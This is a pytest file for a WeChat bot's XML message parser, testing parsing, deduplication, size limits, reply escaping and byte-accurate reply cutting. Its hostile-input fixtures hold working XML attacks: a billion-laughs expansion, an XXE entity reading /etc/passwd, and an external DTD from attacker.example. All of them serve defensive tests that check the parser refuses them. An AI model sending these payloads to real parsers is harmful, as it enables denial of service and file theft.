"""Callback XML parsing under hostile input, passive text replies and cutting them to size."""

from __future__ import annotations

import pytest

from bot.channels.wechat.messages import (
    MAX_BODY_BYTES,
    BadMessage,
    IncomingMessage,
    cdata,
    cut_for_passive_reply,
    extract_encrypted,
    parse_message,
    text_reply,
    utf8_len,
)

TEXT = (
    "<xml><ToUserName><![CDATA[gh_account]]></ToUserName>"
    "<FromUserName><![CDATA[oUSER_openid]]></FromUserName>"
    "<CreateTime>1764122400</CreateTime><MsgType><![CDATA[text]]></MsgType>"
    "<Content><![CDATA[{content}]]></Content><MsgId>24000000000000001</MsgId></xml>"
)


def _text(content: str = "how much is the fee") -> bytes:
    return TEXT.replace("{content}", content).encode()


def _event(event: str, key: str | None = None) -> bytes:
    key_xml = "" if key is None else f"<EventKey><![CDATA[{key}]]></EventKey>"
    return (
        "<xml><ToUserName><![CDATA[gh_account]]></ToUserName>"
        "<FromUserName><![CDATA[oUSER_openid]]></FromUserName>"
        "<CreateTime>1764122400</CreateTime><MsgType><![CDATA[event]]></MsgType>"
        f"<Event><![CDATA[{event}]]></Event>{key_xml}</xml>"
    ).encode()


# --- parsing ----------------------------------------------------------------------------------


def test_a_text_message_parses() -> None:
    message = parse_message(_text("我的卡丢了怎么办"))
    assert message == IncomingMessage(
        to_user="gh_account",
        from_user="oUSER_openid",
        create_time=1764122400,
        msg_type="text",
        content="我的卡丢了怎么办",
        msg_id="24000000000000001",
    )
    assert message.dedupe_key == "24000000000000001"


def test_str_bodies_parse_too() -> None:
    assert parse_message(_text().decode()).content == "how much is the fee"


def test_content_keeps_its_spaces_and_line_breaks() -> None:
    assert parse_message(_text("  two\nlines ")).content == "  two\nlines "


def test_plain_text_content_without_cdata_is_unescaped() -> None:
    body = _text().replace(b"<![CDATA[how much is the fee]]>", b"fees &amp; hours &lt;3")
    assert parse_message(body).content == "fees & hours <3"


@pytest.mark.parametrize(
    ("raw", "event"),
    [
        ("subscribe", "subscribe"),
        ("unsubscribe", "unsubscribe"),
        ("CLICK", "click"),
        ("VIEW", "view"),
        ("SCAN", "scan"),
        ("LOCATION", "location"),
        ("TEMPLATESENDJOBFINISH", "templatesendjobfinish"),
    ],
)
def test_events_are_lower_cased(raw: str, event: str) -> None:
    message = parse_message(_event(raw, "MENU_FEES"))
    assert (message.msg_type, message.event, message.event_key) == ("event", event, "MENU_FEES")
    assert message.msg_id is None
    assert message.content == ""


def test_an_event_is_deduplicated_by_sender_time_event_and_key() -> None:
    message = parse_message(_event("subscribe", "qrscene_42"))
    assert message.dedupe_key == "oUSER_openid:1764122400:subscribe:qrscene_42"
    assert (
        parse_message(_event("unsubscribe")).dedupe_key == "oUSER_openid:1764122400:unsubscribe:"
    )


@pytest.mark.parametrize(
    "msg_type", ["image", "voice", "video", "shortvideo", "location", "link", "miniprogrampage"]
)
def test_other_message_types_are_kept(msg_type: str) -> None:
    body = _text().replace(b"[CDATA[text]]", f"[CDATA[{msg_type}]]".encode())
    body = body.replace(b"<Content><![CDATA[how much is the fee]]></Content>", b"")
    message = parse_message(body)
    assert (message.msg_type, message.content) == (msg_type, "")


def test_compatible_mode_keeps_the_encrypt_field() -> None:
    body = _text().replace(b"</xml>", b"<Encrypt><![CDATA[c2VjcmV0]]></Encrypt></xml>")
    assert parse_message(body).encrypt == "c2VjcmV0"
    assert parse_message(_text()).encrypt is None


def test_safe_mode_envelope_gives_its_ciphertext() -> None:
    body = (
        b"<xml><ToUserName><![CDATA[gh_account]]></ToUserName>"
        b"<Encrypt><![CDATA[QUJD]]></Encrypt></xml>"
    )
    assert extract_encrypted(body) == "QUJD"
    with pytest.raises(BadMessage, match="missing Encrypt"):
        extract_encrypted(_text())


# --- hostile and broken bodies ----------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&lol9;</Content></xml>"""

ENTITY = b"""<!DOCTYPE xml [<!ENTITY who "oATTACKER">]>
<xml><ToUserName>a</ToUserName><FromUserName>&who;</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>hi</Content></xml>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&xxe;</Content></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType></xml>"""

BARE_DOCTYPE = b"<!DOCTYPE xml>" + _text()


@pytest.mark.parametrize("body", [BILLION_LAUGHS, ENTITY, XXE, EXTERNAL_DTD, BARE_DOCTYPE])
def test_dtds_and_entities_are_refused(body: bytes) -> None:
    with pytest.raises(BadMessage, match="DTD or entities") as raised:
        parse_message(body)
    assert raised.value.__cause__ is None and raised.value.__suppress_context__


def test_a_megabyte_body_is_refused_before_parsing() -> None:
    body = _text("x" * (1024 * 1024))
    with pytest.raises(BadMessage, match="too large"):
        parse_message(body)
    with pytest.raises(BadMessage, match="too large"):
        extract_encrypted(body)


def test_the_size_limit_is_exact() -> None:
    base = _text("")
    filler = MAX_BODY_BYTES - len(base)
    assert parse_message(_text("x" * filler)).content == "x" * filler
    with pytest.raises(BadMessage, match="too large"):
        parse_message(_text("x" * (filler + 1)))


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"hello",
        b'{"ToUserName": "gh_account"}',
        b"<xml><ToUserName>unclosed</xml>",
        b"<xml>\xff\xfe</xml>",
        _text()[:-3],
        _text() + b"<xml/>",
    ],
)
def test_non_xml_is_a_bad_message(body: bytes) -> None:
    with pytest.raises(BadMessage, match="not well-formed XML"):
        parse_message(body)


def test_the_root_must_be_xml() -> None:
    with pytest.raises(BadMessage, match="root"):
        parse_message(_text().replace(b"<xml>", b"<msg>").replace(b"</xml>", b"</msg>"))


@pytest.mark.parametrize("field", ["ToUserName", "FromUserName", "CreateTime", "MsgType"])
def test_each_required_field_is_checked(field: str) -> None:
    document = _text("PRIVATE user words").decode()
    start = document.index(f"<{field}>")
    end = document.index(f"</{field}>") + len(f"</{field}>")
    missing = document[:start] + document[end:]
    empty = document[:start] + f"<{field}>  </{field}>" + document[end:]
    for body in (missing, empty):
        with pytest.raises(BadMessage) as raised:
            parse_message(body)
        assert str(raised.value) == f"missing {field}"
        assert "PRIVATE" not in str(raised.value)


@pytest.mark.parametrize("value", ["yesterday", "-5", "1.5", "١٢٣", "9" * 13])
def test_create_time_must_be_a_plain_timestamp(value: str) -> None:
    body = _text().replace(b"1764122400", value.encode())
    with pytest.raises(BadMessage, match="CreateTime"):
        parse_message(body)


def test_bad_message_is_a_value_error() -> None:
    assert issubclass(BadMessage, ValueError)


# --- replies ----------------------------------------------------------------------------------


def test_text_reply_round_trips_through_the_parser() -> None:
    xml = text_reply("oUSER_openid", "gh_account", "申请费：免费\nFees: see /fees", 1764122401)
    message = parse_message(xml)
    assert (message.to_user, message.from_user) == ("oUSER_openid", "gh_account")
    assert (message.msg_type, message.create_time) == ("text", 1764122401)
    assert message.content == "申请费：免费\nFees: see /fees"


@pytest.mark.parametrize(
    "content", ["a]]>b", "]]>", "]]]]>", "x]]>]]>y", "<![CDATA[inner]]>", "&lt; <b>bold</b>"]
)
def test_cdata_terminators_in_content_are_split_safely(content: str) -> None:
    assert parse_message(text_reply("o", "gh", content, 1)).content == content


def test_characters_xml_cannot_carry_are_dropped() -> None:
    assert cdata("a\x00b\x1bc\ufffe") == "<![CDATA[abc]]>"
    reply = text_reply("o", "gh", "tab\tand\r\nnewline\x07", 1)
    assert parse_message(reply).content == "tab\tand\nnewline"  # XML normalises \r\n


# --- cutting a passive reply to 2,048 bytes ---------------------------------------------------


@pytest.mark.parametrize("text", ["", "abc", "中文", "😀", "a\udc80b"])
def test_utf8_len_counts_bytes(text: str) -> None:
    assert utf8_len(text) == len(text.encode("utf-8", "surrogatepass"))


def test_short_text_is_not_cut() -> None:
    assert cut_for_passive_reply("hello") == ("hello", "")
    assert cut_for_passive_reply("") == ("", "")


def test_ascii_at_exactly_the_limit_fits() -> None:
    text = "a" * 2048
    assert cut_for_passive_reply(text) == (text, "")
    assert cut_for_passive_reply(text + "b") == (text, "b")


def test_chinese_is_cut_at_a_character_boundary() -> None:
    fits = "中" * 682 + "ab"  # 2,046 + 2 = 2,048 bytes
    assert utf8_len(fits) == 2048
    assert cut_for_passive_reply(fits) == (fits, "")
    head, rest = cut_for_passive_reply("中" * 683)  # 2,049 bytes
    assert (head, rest) == ("中" * 682, "中")
    assert utf8_len(head) == 2046


def test_a_four_byte_emoji_is_never_split() -> None:
    head, rest = cut_for_passive_reply("a" * 2046 + "😀")
    assert (head, rest) == ("a" * 2046, "😀")


def test_the_cut_prefers_a_line_break() -> None:
    first = "第一段：" + "办" * 400  # 1,212 bytes
    second = "第二段 " + "理" * 400  # 1,210 bytes
    head, rest = cut_for_passive_reply(f"{first}\n\n{second}")
    assert (head, rest) == (first, second)


def test_a_line_break_is_preferred_to_a_later_space() -> None:
    text = "a" * 1000 + "\n" + "b" * 1000 + " " + "c" * 100
    assert cut_for_passive_reply(text) == ("a" * 1000, "b" * 1000 + " " + "c" * 100)


def test_without_line_breaks_the_cut_falls_on_a_space() -> None:
    words = " ".join(["renewal"] * 400)  # 3,199 bytes
    head, rest = cut_for_passive_reply(words)
    assert utf8_len(head) <= 2048 and head.endswith("renewal")
    assert f"{head} {rest}" == words


def test_a_small_limit_and_exact_byte_counts() -> None:
    assert cut_for_passive_reply("ab cd", limit=4) == ("ab", "cd")
    assert cut_for_passive_reply("中文字", limit=6) == ("中文", "字")
    assert cut_for_passive_reply("中文字", limit=8) == ("中文", "字")
    assert cut_for_passive_reply("中文字", limit=9) == ("中文字", "")
    with pytest.raises(ValueError, match="at least 4"):
        cut_for_passive_reply("abc", limit=3)


def test_cutting_repeatedly_covers_the_whole_text() -> None:
    text = "\n".join(f"{i}. 绿卡 renewal café 😀 " * (i % 7 + 1) for i in range(300))
    parts: list[str] = []
    rest = text
    while rest:
        head, rest = cut_for_passive_reply(rest)
        assert head and utf8_len(head) <= 2048
        parts.append(head)
    assert len(parts) > 3
    squeeze = str.maketrans("", "", " \n")
    assert "".join(parts).translate(squeeze) == text.translate(squeeze)
